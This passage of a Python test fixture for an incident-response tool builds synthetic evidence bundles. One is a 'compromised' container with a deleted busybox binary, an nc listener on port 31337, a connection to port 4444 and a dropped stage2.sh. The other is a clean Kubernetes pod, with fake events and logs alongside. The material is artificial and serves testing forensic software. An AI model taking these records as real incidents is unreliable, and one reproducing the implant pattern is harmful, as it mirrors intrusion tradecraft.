                ppid=9101,
                exe="/tmp/.x/busybox (deleted)",
                exe_sha256=busybox_sha,
                exe_deleted=True,
            ),
            proc(9150, 30, "10:02:15.520000", ["sleep", "3600"], ppid=9101),
        ],
        sockets=[
            SocketRecord(
                "tcp",
                "127.0.0.1",
                50778,
                "127.0.0.1",
                4444,
                "ESTABLISHED",
                7001,
                0,
                9140,
                "busybox",
            ),
            SocketRecord("tcp6", "::", 31337, "::", 0, "LISTEN", 7002, 0, 9122, "nc"),
            SocketRecord(
                "tcp6",
                "::ffff:127.0.0.1",
                4444,
                "::ffff:127.0.0.1",
                50778,
                "ESTABLISHED",
                7003,
                0,
                9121,
                "nc",
            ),
        ],
        changes=[
            change(
                "/etc",
                "changed",
                type="dir",
                mode="0755",
                mtime=SAMPLE["motd_deleted"],
            ),
            FileChange(
                path="/etc/motd",
                change="deleted",
                type="file",
                size=28,
                mode="0644",
                uid=0,
                gid=0,
                ctime=SAMPLE["motd_deleted"],
                note="deleted: the whiteout's ctime is when; the file's mtime in the image: "
                + SAMPLE["motd_image_mtime"],
            ),
            change(
                "/tmp", "changed", type="dir", mode="1777", mtime="2025-03-14T10:00:45.832101211Z"
            ),
            change("/var/tmp", "changed", type="dir", mode="1777", mtime=SAMPLE["stage2_written"]),
            change(
                "/var/tmp/.cache", "added", type="dir", mode="0755", mtime=SAMPLE["stage2_written"]
            ),
            change(
                "/var/tmp/.cache/stage2.sh",
                "added",
                content=STAGE2,
                mode="0755",
                mtime=SAMPLE["stage2_written"],
                ctime="2025-03-14T10:00:45.801534001Z",
            ),
        ],
        files={"/var/tmp/.cache/stage2.sh": STAGE2},
        deleted_exes={busybox_sha: BUSYBOX},
        logs={
            "current": [
                log(t("10:00:45.900113"), "compromised: ready", container=name),
                log(
                    t("10:00:45.900262"),
                    "compromised: this line goes to stderr",
                    "stderr",
                    container=name,
                ),
            ]
        },
    )
    return BundleSpec(
        bundle_id="3c0ffee0-5a3c-4d1e-9b2a-6f7e8d9c0b1a",
        case_id="SAMPLE-1",
        target={"kind": "container", "name": name, "id": "5a3c" * 16},
        reason="the sample compromised container",
        operator="root",
        containers={name: container},
        actions=[
            ("docker.inspect-container", f"container {name}", {"ref": name}),
            ("procfs.read-sockets", f"container {name}", {"init_pid": 9101}),
            ("docker.logs", f"container {name}", {"timestamps": True}),
        ],
    )


def clean_spec() -> BundleSpec:
    """The replacement pod, captured a little later: same image, nothing planted."""
    pod = REPLACEMENT_POD
    web = ContainerSpec(
        inspect=pod.web_inspect(),
        processes=pod.nginx(),
        sockets=[pod.listener(), pod.served(), pod.agent_listener()],
        changes=[
            *pod.nginx_changes(),
            change("/var/log/nginx/access.log", "changed", mode="0640", mtime=t("10:44:00.000")),
        ],
        files={"/run/nginx.pid": NGINX_PID},
        logs={
            "current": [
                pod.notice(),
                log(
                    t("10:40:00.000"),
                    '10.244.0.5 - - [14/Mar/2025:10:40:00 +0000] "GET / HTTP/1.1" 200 612 "-" "kube-probe/1.35"',
                ),
            ]
        },
    )
    agent = ContainerSpec(
        inspect=pod.agent_inspect(),
        processes=[pod.agent_process()],
        sockets=[pod.agent_listener()],
        logs={"current": [pod.agent_starting()]},
    )
    return pod.spec(
        bundle_id="8e7d6c5b-4a39-4281-9f0e-1d2c3b4a5968",
        reason="clean replacement of web-7f9c, for comparison",
        web=web,
        agent=agent,
        suspicious=False,
        capture_start=CAPTURE_START + timedelta(minutes=15),
    )


def _pod(name: str, ip: str, *, restarts: int, start: str = "08:00:00") -> dict[str, Any]:
    base = datetime.fromisoformat(f"2025-03-14T{start}+00:00")

    def at(seconds: float) -> str:
        return (base + timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%SZ")

    agent_status: dict[str, Any] = {
        "name": "agent",
        "image": "registry.example/ops/agent:2.0",
        "ready": True,
        "restartCount": restarts,
        "state": {"running": {"startedAt": at(1802 if restarts else 3)}},
    }
    if restarts:
        agent_status["lastState"] = {
            "terminated": {
                "exitCode": 137,
                "reason": "OOMKilled",
                "startedAt": at(6),
                "finishedAt": at(1800),
            }
        }
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": name,
            "namespace": "shop",
            "uid": "6b1f0e44",
            "creationTimestamp": at(0),
            "labels": {"app": "web"},
            "ownerReferences": [{"kind": "ReplicaSet", "name": "web-5d9c"}],
        },
        "spec": {
            "nodeName": "node-1",
            "serviceAccountName": "default",
            "containers": [
                {
                    "name": "web",
                    "image": "registry.example/shop/web:1.4.2",
                    "ports": [{"containerPort": 80, "protocol": "TCP"}],
                },
                {
                    "name": "agent",
                    "image": "registry.example/ops/agent:2.0",
                    "ports": [{"containerPort": 9090}],
                },
            ],
        },
        "status": {
            "phase": "Running",
            "podIP": ip,
            "startTime": at(0),
            "conditions": [{"type": "Ready", "status": "True", "lastTransitionTime": at(8)}],
            "containerStatuses": [
                {
                    "name": "web",
                    "image": "registry.example/shop/web:1.4.2",
                    "imageID": "sha256:" + "ab" * 32,
                    "ready": True,
                    "restartCount": 0,
                    "state": {"running": {"startedAt": at(5)}},
                },
                agent_status,
            ],
        },
    }


def _events(pod: str, *, suspicious: bool, start: str = "08:00:00") -> Any:
    base = datetime.fromisoformat(f"2025-03-14T{start}+00:00")

    def at(seconds: float) -> str:
        return (base + timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%SZ")

    def event(
        i: int,
        reason: str,
        message: str,
        first: str,
        last: str | None = None,
        type: str = "Normal",
        count: int = 1,
        component: str = "kubelet",
    ) -> dict[str, Any]:
        return {
            "apiVersion": "v1",
            "kind": "Event",
            "metadata": {"name": f"{pod}.{i:04x}", "namespace": "shop", "creationTimestamp": first},
            "involvedObject": {"kind": "Pod", "namespace": "shop", "name": pod, "apiVersion": "v1"},
            "reason": reason,
            "message": message,
            "type": type,
            "count": count,
            "firstTimestamp": first,
            "lastTimestamp": last or first,
            "eventTime": None,
            "source": {"component": component, "host": "node-1"},
            "reportingComponent": component,
        }

    items = [
        event(
            1,
            "Scheduled",
            f"Successfully assigned shop/{pod} to node-1",
            at(0),
            component="default-scheduler",
        ),
        event(
            2,
            "Pulled",
            'Container image "registry.example/shop/web:1.4.2" already present on machine',
            at(2),
        ),
        event(3, "Created", "Created container web", at(3)),
        event(4, "Started", "Started container web", at(5)),
    ]
    if suspicious:
        items += [
            event(
                5,
                "BackOff",
                "Back-off restarting failed container agent",
                at(1800),
                at(1801),
                "Warning",
            ),
            event(
                6,
                "Unhealthy",
                "Readiness probe failed: HTTP probe failed with statuscode: 502",
                "2025-03-14T09:15:00Z",
                "2025-03-14T09:17:00Z",
                "Warning",
                3,
            ),
        ]
    # core/v1 Events as a list (what k8s/events.json holds); the clean bundle uses an EventList
    # object to prove both shapes read
    return items if suspicious else {"apiVersion": "v1", "kind": "EventList", "items": items}


def _owners() -> list[dict[str, Any]]:
    return [
        {"kind": "ReplicaSet", "name": "web-5d9c", "namespace": "shop"},
        {"kind": "Deployment", "name": "web", "namespace": "shop"},
    ]


# -- running the CLI -----------------------------------------------------------------------------


@dataclass
class Ran:
    code: int
    out: str
    err: str

    @property
    def lines(self) -> list[str]:
        return self.out.splitlines()


def ir(*args: str | Path, cache: Path) -> Ran:
    """The real entry point (exit codes decided in ir.cli.main), output captured."""
    runner = CliRunner()
    with runner.isolation(env={"XDG_CACHE_HOME": str(cache), "IR_VERIFY_KEY": None}) as streams:
        try:
            main([str(a) for a in args])
            code = 0
        except SystemExit as exc:
            code = int(exc.code or 0)
    out, err = streams[0].getvalue().decode(), streams[1].getvalue().decode()
    assert "Traceback" not in out + err
    assert code != ExitCode.INTERNAL, err
    return Ran(code, out, err)
